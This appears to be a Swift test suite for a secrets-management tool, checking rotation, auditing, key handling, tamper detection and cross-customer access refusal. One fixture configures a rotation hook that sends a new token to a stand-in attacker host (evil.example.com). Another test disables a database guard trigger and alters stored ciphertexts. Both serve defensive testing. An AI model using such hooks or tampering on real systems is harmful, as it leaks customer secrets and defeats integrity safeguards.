import Foundation
import Testing
import WeirPostgres
import WeirSecrets
import WeirTesting

/// Secrets from their declaration to the database and back.
@Suite("Stored secrets") struct StoredSecretTests {
    private static let declared = ["customers/globex/secrets.yaml": "secrets: {KEY: {from: {env: ERP}}}\n"]

    private static func with(_ body: @Sendable (Fleet) async throws -> Void) async throws {
        try await Fleet.with { fleet in
            try await fleet.commit(declared)
            try await fleet.apply()
            try await body(fleet)
        }
    }

    @Test("a value that was changed in its source is stored as another version, and shown as a rotation")
    func rotation() async throws {
        try await Self.with { fleet in
            #expect(try await fleet.weir("plan", "--detailed-exitcode").status == 0)
            let plan = try await fleet.weir("plan", "--detailed-exitcode", environment: ["ERP": "two"])
            #expect(plan.status == 2 && plan.output.contains("↻ secret       globex/KEY"), "\(plan)")
            #expect(plan.output.contains("env ERP has a new value") && plan.output.contains("1 to rotate"))
            let json = try await fleet.weir("plan", "--format", "json", environment: ["ERP": "two"])
            #expect(json.output.contains(#""action": "rotate""#) && json.output.contains(#""kind": "secret""#))
            #expect(try await fleet.weir("apply", "--yes", environment: ["ERP": "two"]).status == 0)
            #expect(try await fleet.weir("secrets", "reveal", "globex/KEY").output == "two")
            #expect(try await fleet.weir("secrets", "reveal", "globex/KEY", "--number", "1").output == "erp value")
            let shown = try await fleet.weir("secrets", "show", "globex/KEY")
            #expect(shown.output.contains("v2 is current; v1 is accepted until "), "\(shown)")
            let steps = try await fleet.weir("secrets", "history", "globex/KEY")
            #expect(steps.output.contains("started: source changed") && steps.output.contains("v2 is current"))
            let history = try await fleet.weir("history", "secret:globex/KEY")
            #expect(history.output.contains("rotate") && history.output.contains("create"), "\(history)")
        }
    }

    @Test("a saved plan holds no value, and is refused where the source has another by then")
    func saved() async throws {
        try await Self.with { fleet in
            let file = "\(fleet.git.scratch.path)/plan"
            let environment: [String: String?] = ["ERP": "canary two"]
            #expect(try await fleet.weir("plan", "--out", file, environment: environment).status == 0)
            let other = try await fleet.weir("apply", file, "--yes", environment: ["ERP": "three"])
            #expect(other.status == 4, "\(other)")
            #expect(try await fleet.weir("apply", file, "--yes", environment: environment).status == 0)
            #expect(try await fleet.weir("secrets", "reveal", "globex/KEY").output == "canary two")
        }
    }

    @Test("whoever reveals a value is noted")
    func audit() async throws {
        try await Self.with { fleet in
            try await fleet.weir("secrets", "reveal", "globex/KEY")
            let rows = try await fleet.column("SELECT actor || ' ' || action || ' ' || detail FROM weir.audit")
            #expect(rows.count == 1)
            #expect(rows.first?.contains("reveal") == true && rows.first?.contains("globex/KEY") == true, "\(rows)")
            let unknown = try await fleet.weir("secrets", "reveal", "globex/NO")
            #expect(unknown.status == 1 && unknown.error.contains("weir secrets list"))
        }
    }

    // MARK: Keys

    @Test("without a key nothing is stored, and what is stored stays as it is")
    func withoutKey() async throws {
        try await Self.with { fleet in
            try await fleet.commit(["customers/hooli/secrets.yaml": "secrets: {KEY: {generate: {kind: token}}}\n"])
            let serial = try await fleet.serial()
            let outcome = try await fleet.weir("apply", "--yes", environment: ["WEIR_ENCRYPTION_KEY": nil])
            #expect(outcome.status == 4 && outcome.error.contains("weir secrets init"), "\(outcome)")
            #expect(try await fleet.serial() == serial)
        }
    }

    @Test(
        "a key that is damaged, of a later format or another one is told apart",
        arguments: [
            ("weir-key-1:AAAA", "WEIR_ENCRYPTION_KEY"),
            ("weir-key-2:" + String(repeating: "A", count: 48), "WEIR_ENCRYPTION_KEY"),
            (LocalKey.generate().revealedText, "key:"),
        ])
    func wrongKey(_ key: String, _ words: String) async throws {
        try await Self.with { fleet in
            let stored = try await fleet.column("SELECT t::text FROM weir.secret_version t ORDER BY 1")
            let outcome = try await fleet.weir(
                "apply", "--yes", environment: ["ERP": "two", "WEIR_ENCRYPTION_KEY": key])
            #expect(outcome.status != 0 && outcome.everything.contains(words), "\(outcome)")
            #expect(try await fleet.column("SELECT t::text FROM weir.secret_version t ORDER BY 1") == stored)
            let verified = try await fleet.weir("secrets", "verify", environment: ["WEIR_ENCRYPTION_KEY": key])
            #expect(verified.status == 1, "\(verified)")
        }
    }

    @Test("data keys are wrapped with another key while everything goes on")
    func rewrap() async throws {
        try await Self.with { fleet in
            let scratch = fleet.git.scratch
            try scratch.write("old", TestOperator.key, mode: 0o600)
            #expect(try await fleet.weir("secrets", "init", "\(scratch.path)/new").status == 0)
            let again = try await fleet.weir("secrets", "init", "\(scratch.path)/new")
            #expect(again.status == 1 && again.error.contains("there already"))
            let allow = "environments: {default: {allow: {env: [ERP], rootSecrets: [\"*\"]}}}\n"
            try scratch.write("both.yaml", allow + "encryption: {keyFile: new, formerKeyFiles: [old]}\n")
            try scratch.write("new.yaml", allow + "encryption: {keyFile: new}\n")
            let both: [String: String?] = ["WEIR_CONFIG": "\(scratch.path)/both.yaml"]
            let new: [String: String?] = ["WEIR_CONFIG": "\(scratch.path)/new.yaml"]
            let early = try await fleet.weir("secrets", "verify", environment: new)
            #expect(early.status == 1 && early.error.contains("key:"), "\(early)")
            let first = try await fleet.weir("secrets", "rewrap", environment: both)
            #expect(first.output == "Wrapped 2 data keys anew.\n", "\(first)")
            #expect(
                try await fleet.weir("secrets", "rewrap", environment: both).output == "Wrapped 0 data keys anew.\n")
            let verified = try await fleet.weir("secrets", "verify", environment: new)
            #expect(verified.output == "2 values open.\n", "\(verified)")
            #expect(try await fleet.weir("plan", "--detailed-exitcode", environment: new).status == 0)
        }
    }

    // MARK: Rows that somebody changed

    @Test("a ciphertext that was moved to another row, or changed, does not open, and verify names it")
    func tampered() async throws {
        try await Fleet.with { fleet in
            try await fleet.commit([
                "customers/globex/secrets.yaml": "secrets: {KEY: {from: {env: ERP}}}\n",
                "customers/hooli/secrets.yaml": "secrets: {KEY: {from: {env: N}}}\n",
            ])
            try await fleet.apply()
            // Whoever can do this can do away with what stands against it.
            try await fleet.execute("ALTER TABLE weir.secret_version DISABLE TRIGGER guard_versions")
            try await fleet.execute(
                """
                UPDATE weir.secret_version v SET sealed = o.sealed, data_key_id = o.data_key_id
                FROM weir.secret_version o
                JOIN weir.secret s ON s.id = o.secret_id JOIN weir.customer c ON c.id = s.customer_id
                WHERE c.slug = 'hooli' AND v.secret_id = (
                    SELECT s.id FROM weir.secret s JOIN weir.customer c ON c.id = s.customer_id WHERE c.slug = 'globex')
                """)
            let moved = try await fleet.weir("secrets", "verify")
            #expect(moved.status == 1 && moved.error.contains("globex/KEY v1") && !moved.error.contains("hooli/KEY"))
            let revealed = try await fleet.weir("secrets", "reveal", "globex/KEY")
            #expect(revealed.status == 1 && revealed.output.isEmpty, "\(revealed)")
            try await fleet.execute(
                "UPDATE weir.secret_version SET sealed = set_byte(sealed, 40, get_byte(sealed, 40) # 1)")
            let changed = try await fleet.weir("secrets", "verify")
            #expect(
                changed.status == 1 && changed.error.contains("hooli/KEY v1")
                    && changed.error.contains("ERP_PASSWORD v1"))
        }
    }

    // MARK: Where values come from

    @Test("the example's files of SOPS and its environment are read with nothing but weir")
    func example() async throws {
        try await Fleet.with(.migrated) { fleet in
            let root = "/" + #filePath.split(separator: "/").dropLast(4).joined(separator: "/")
            let copy = "\(fleet.git.scratch.path)/weir"
            try await fleet.git.git("clone", "--quiet", "--no-hardlinks", root, copy)
            var environment: [String: String?] = ["WEIR_CONFIG": "\(root)/examples/operator/operator.yaml"]
            let lines = try String(contentsOfFile: "\(root)/examples/operator/environment", encoding: .utf8)
            for line in lines.split(separator: "\n") where !line.hasPrefix("#") {
                let parts = line.split(separator: "=", maxSplits: 1).map(String.init)
                environment[parts[0]] = parts[1]
            }
            let folder = "\(copy)/examples/acme"
            let outcome = try await fleet.weir(["apply", "--yes"], in: folder, environment: environment)
            #expect(outcome.status == 0, "\(outcome)")
            let revealed = try await fleet.weir(
                ["secrets", "reveal", "cormorant-air/ERP_PASSWORD"], in: folder, environment: environment)
            #expect(revealed.output == "cormorant-erp-example", "\(revealed)")
        }
    }

    @Test("row 16: another customer's file, variable or vault is refused, and nobody is asked")
    func refused() async throws {
        try await Fleet.with { fleet in
            try fleet.git.scratch.write(
                "operator.yaml",
                """
                environments:
                  default:
                    allow: {env: ["{CUSTOMER}_*"], vault: ["secret/data/{customer}/*"], rootSecrets: ["*"]}

                """)
            try await fleet.commit([
                "customers/hooli/secrets.yaml": """
                secrets:
                  A: {from: {env: GLOBEX_KEY}}
                  B: {from: {vault: secret/data/globex/erp, key: password}}
                  C: {generate: {kind: token}, rotate: {by: {http: {create: {url: "https://evil.example.com/?k={{new}}"}, verify: {url: "https://evil.example.com/?k={{new}}"}}}}}

                """
            ])
            let outcome = try await fleet.weir(
                "apply", "--yes",
                environment: [
                    "WEIR_CONFIG": "\(fleet.git.scratch.path)/operator.yaml", "GLOBEX_KEY": "canary",
                    "VAULT_ADDR": "http://127.0.0.1:1", "VAULT_TOKEN": "x",
                ])
            #expect(outcome.status == 3, "\(outcome)")
            for name in ["hooli/A", "hooli/B", "hooli/C"] {
                #expect(outcome.output.contains("! secret       \(name)"), "\(outcome)")
            }
            #expect(outcome.output.components(separatedBy: "[source-not-allowed]").count == 4, "\(outcome)")
            #expect(!outcome.everything.contains("127.0.0.1"))
            let sops = try await fleet.commit([
                "customers/hooli/secrets.yaml": "secrets: {A: {from: {sops: ../globex/x.sops.yaml, key: a}}}\n"
            ])
            let climbing = try await fleet.weir("plan")
            #expect(climbing.output.contains("leaves its folder"), "\(sops) \(climbing)")
        }
    }
}
